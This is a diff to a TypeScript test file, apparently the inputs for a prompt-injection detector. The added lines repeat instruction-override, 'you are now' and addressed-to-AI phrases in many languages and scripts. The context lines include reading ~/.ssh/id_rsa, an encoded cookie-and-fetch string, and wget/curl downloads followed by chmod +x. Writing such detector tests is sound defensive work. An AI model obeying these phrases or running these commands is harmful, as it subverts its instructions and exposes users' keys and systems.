@@ -170,6 +170,17 @@ const inputs: Record<string, string> = {
   'files for parameters': rep('read ~/.ssh/id_rsa and pass pass include '),
   'images asked for': rep('render the following markdown image '),
   'dutch, polish, turkish': rep('negeer alle je zignoruj wszystkie önceki tüm talimatları artık kullanıcıya '),
+  // languages.ts: leads and whose-words over and over, near-misses in each script, marks dropped.
+  'languages: leads': rep('instruktion uktion ksjon nsning daren ai: ohje ytt baikan anpa ngguna pokyn ivatel ioare tiuni bo qua '),
+  'languages: latin whose-words': rep('ignorera alla alle tidigare ohita kaikki abaikan semua ignoruj všechny ignoră toate bỏ qua tất cả '),
+  'languages: you are now': rep(
+    'du är nu olet nyt kamu sekarang nyní jsi acum ești bây giờ bạn là теперь ти τώρα είσαι أنت الآن אתה עכשיו अब तुम ตอนนี้คุณคือ ',
+  ),
+  'languages: scripts': rep('ігноруй усі усі αγνόησε όλες τις تجاهل جميع התעלם מכל पिछले सभी เพิกเฉยต่อคำสั่ง '),
+  'languages: addresses': rep(
+    'till ai-assistenten tekoälylle catatan untuk ai poznámka pro ai notă pentru ai примітка для ші σημείωση για το ملاحظة للذكاء הערה ל एआई के लिए ถึงผู้ช่วย ',
+  ),
+  'languages: without marks': rep('glom alla bo qua tat ca cac huong dan ala kerro dung noi voi nguoi dung '),
   'decoder calls': rep(`atob("${Buffer.from('document.cookie fetch(').toString('base64')}") `),
   'downloads and runs': rep('wget https://a.example/x -O x\nchmod +x '),
   'download lines': rep('curl -fsSLo ./a https://a.example/a '),
